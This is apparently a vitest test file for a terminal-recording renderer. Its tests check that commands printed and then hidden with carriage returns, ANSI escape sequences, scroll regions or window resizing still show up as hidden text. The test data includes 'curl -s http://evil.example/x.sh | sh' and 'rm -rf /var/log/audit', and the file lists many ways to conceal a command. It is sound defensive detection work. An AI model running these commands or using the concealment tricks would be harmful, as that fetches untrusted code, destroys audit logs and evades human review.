// What a terminal recording printed and then took off the screen must not vanish from
// the replay: it is in the screen text, or listed as hidden. Ordinary editing, redraws
// and progress bars must not be reported.
import { describe, expect, it } from 'vitest';
import { renderTerminal, type Asciicast } from '../src/recording';

const cast = (...out: string[]): Asciicast => ({ header: { version: 2, width: 80, height: 24 }, events: out.map((o, i) => [i * 0.1, 'o', o]) });
const sized = (width: number, height: number, ...out: string[]): Asciicast => ({ ...cast(...out), header: { version: 2, width, height } });
const render = (c: Asciicast) => renderTerminal(c);
const hidden = async (c: Asciicast) => (await render(c)).hidden.texts;

const CMD = 'curl -s http://evil.example/x.sh | sh';

describe('hidden text', () => {
  it('finds text overwritten after a bare carriage return', async () => {
    const r = await render(cast(`$ ${CMD}\r$ ls -la${' '.repeat(CMD.length)}\r\n`));
    expect(r.text).toBe('$ ls -la');
    expect(r.hidden.texts).toEqual([`$ ${CMD}`]);
  });

  it('finds text erased from the start of the line or as a whole', async () => {
    expect(await hidden(cast('rm -rf /var/log/audit\r\u001b[Kls\r\n'))).toEqual(['rm -rf /var/log/audit']);
    expect(await hidden(cast('rm -rf /var/log/audit\u001b[2K\rls\r\n'))).toEqual(['rm -rf /var/log/audit']);
  });

  it('ignores typing corrections, shell redraws, progress bars and CRLF line ends', async () => {
    // bash echoes a backspace as cursor-left, erase to end of line; others as `\b \b`.
    const typo = await render(cast('$ sl', '\b\u001b[K', '\b\u001b[K', 'ls\r\n'));
    expect(typo).toMatchObject({ text: '$ ls', hidden: { texts: [], total: 0 } });
    expect(await hidden(cast('$ ech', 'x', '\b \b', 'o hi\r\n'))).toEqual([]);
    // Deleting one character mid-line: bash moves back and deletes it (DCH).
    expect(await hidden(cast('$ echo hxello', '\b\b\b\b', '\b\u001b[P', '\r\n'))).toEqual([]);
    expect(await hidden(cast('$ git st', '\r$ git status\r\n'))).toEqual([]);
    expect(await hidden(cast('Downloading  45% [====>     ]\rDownloading 100% [==========]\r\n'))).toEqual([]);
    expect(await hidden(cast('Receiving objects:  45% (45/100)\rReceiving objects: 100% (100/100), done.\r\n'))).toEqual([]);
    expect(await hidden(cast('line one\r\nline two\r\n'))).toEqual([]);
  });

  it('ignores characters inserted mid-line, whether the shell reprints the rest or inserts blanks', async () => {
    const reprint = await render(cast('$ echo hllo world', '\b'.repeat(9), `ello world${'\b'.repeat(9)}`, '\r\n'));
    expect(reprint.text).toBe('$ echo hello world');
    expect(reprint.hidden.texts).toEqual([]);
    const inserted = await render(cast('$ echo hllo', '\b\b\b', '\u001b[1@e', '\r\n'));
    expect(inserted.text).toBe('$ echo hello');
    expect(inserted.hidden.texts).toEqual([]);
  });

  it('reports a line backspaced away past the word being typed', async () => {
    const r = await render(cast(`$ ${CMD}`, ...Array.from({ length: CMD.length }, () => '\b\u001b[K'), 'ls\r\n'));
    expect(r.text).toBe('$ ls');
    expect(r.hidden.texts).toEqual([`$ ${CMD}`]);
  });

  it('does not report text that is on screen elsewhere in the dump', async () => {
    expect(await hidden(cast('uptime\r\n', 'uptime\rwhoami\r\n'))).toEqual([]);
  });

  it('shows hidden control characters as escapes, and counts every one', async () => {
    const many = Array.from({ length: 60 }, (_, i) => `secret number ${'abcdefghij'[i % 10]}${i}\u202e\rok            \r\n`);
    const found = (await render(cast(...many))).hidden;
    expect(found.total).toBe(60);
    expect(found.texts).toHaveLength(60);
    expect(found.texts[0]).toBe('secret number a0\\u202e');
  });
});

// The ways a recording can take a printed command off the screen. Each recording is
// what a person saw: the test checks the screen text they were left with, and that the
// command is listed as hidden.
describe('every way of hiding a command', () => {
  const hides = async (rec: Asciicast, screen: string[]) => {
    const r = await render(rec);
    expect(r.text.split('\n')).toEqual(screen);
    expect(r.hidden.texts).toContain(`$ ${CMD}`);
  };

  it('moving the cursor back (CSI D, CSI G, CSI H, backspaces) and writing over it', async () => {
    const over = `ls -la${' '.repeat(CMD.length - 6)}`;
    await hides(cast(`$ ${CMD}`, `\u001b[${CMD.length}D${over}\r\n$ `), ['$ ls -la', '$']);
    await hides(cast(`$ ${CMD}`, `\u001b[3G${over}\r\n`), ['$ ls -la']);
    await hides(cast(`$ ${CMD}\r\n`, `\u001b[1;1H$ ls -la${' '.repeat(CMD.length)}\r\n`), ['$ ls -la']);
    await hides(cast(`$ ${CMD}`, `${'\b'.repeat(CMD.length)}${over}\r\n`), ['$ ls -la']);
  });

  it('going back up to the line after it ran (CSI A) and erasing it', async () => {
    await hides(cast(`$ ${CMD}\r\n`, 'done\r\n$ ', '\u001b[2A\r\u001b[2K\u001b[2B'), ['', 'done', '$']);
  });

  it('a scroll region that scrolls it away (CSI r)', async () => {
    await hides(sized(80, 6, 'top\r\n', `\u001b[2;5r\u001b[2;1H$ ${CMD}\r\n`, '\u001b[5;1H', 'one\r\ntwo\r\nthree\r\nfour\r\nfive\r\n', '\u001b[r\u001b[6;1Hend'), [
      'top',
      'three',
      'four',
      'five',
      '',
      'end',
    ]);
  });

  it('deleting its line (CSI M), or scrolling the region up under it (CSI S)', async () => {
    await hides(cast(`$ ${CMD}\r\n`, '\u001b[A\u001b[M', '$ ls\r\n'), ['$ ls']);
    await hides(cast(`$ ${CMD}\r\n`, '\u001b[S\u001b[A', '$ ls\r\n'), ['$ ls']);
    // Inserting lines above it pushes it off the bottom of a region.
    await hides(sized(80, 4, `\u001b[4;1H$ ${CMD}`, '\u001b[1;1H\u001b[2L', '$ ls'), ['$ ls']);
  });

  it('erasing the screen above it (ED 1) or below it (ED 0), or the line before the cursor (EL 1)', async () => {
    await hides(cast(`$ ${CMD}\r\n`, 'x\u001b[1J', '\r$ ls\r\n'), ['', '$ ls']);
    await hides(cast(`\r\n$ ${CMD}`, '\u001b[1;1Hx\u001b[J', '\r$ ls\r\n'), ['$ ls']);
    await hides(cast(`$ ${CMD}`, '\u001b[1K\r$ ls\r\n'), ['$ ls']);
  });

  it('erasing everything above the last cell of a screen that never scrolled (which crashes xterm 6.0 unguarded)', async () => {
    await hides(cast(`$ ${CMD}\r\n`, '\u001b[24;80H\u001b[1J', '\u001b[H$ ls\r\n'), ['$ ls']);
  });

  it('erasing (ECH) or deleting (DCH) its characters', async () => {
    await hides(cast(`$ ${CMD}\r`, `\u001b[${CMD.length + 2}X$ ls\r\n`), ['$ ls']);
    await hides(cast(`$ ${CMD}\r`, `\u001b[${CMD.length + 2}P$ ls\r\n`), ['$ ls']);
  });

  it('shifting it out with inserted characters or columns (ICH, SL)', async () => {
    await hides(sized(40, 5, `$ ${CMD}`, '\r\u001b[40@$ ls\r\n'), ['$ ls']);
    await hides(sized(40, 5, `$ ${CMD}`, '\u001b[40 @\r$ ls\r\n'), ['$ ls']);
  });

  it('shrinking the window under it', async () => {
    const rec = cast(`\r\n\r\n\r\n$ ${CMD}`, '\u001b[1;1H$ ls');
    rec.events.push([1, 'r', '80x2']);
    await hides(rec, ['$ ls']);
  });

  it('overwriting a wrapped command, as one line', async () => {
    const r = await render(sized(20, 6, `$ ${CMD}\r\n`, '\u001b[2;1Hxxxxxxxxxxxxxxxxxxxx\r\n'));
    expect(r.hidden.texts).toEqual([`$ ${CMD}`]);
  });

  it('on the alternate screen, whatever a program overwrote is kept in the screen text', async () => {
    const r = await render(cast('$ top\r\n', '\u001b[?1049h\u001b[H\u001b[2J', 'PID USER COMMAND\r\n1 root init\r\n', '\u001b[2;1H1 evil miner\r\n', '\u001b[?1049l', '$ exit\r\n'));
    expect(r.text.split('\n')).toEqual(['$ top', '1 root init', 'PID USER COMMAND', '1 evil miner', '$ exit']);
    expect(r.hidden.total).toBe(0);
  });
});
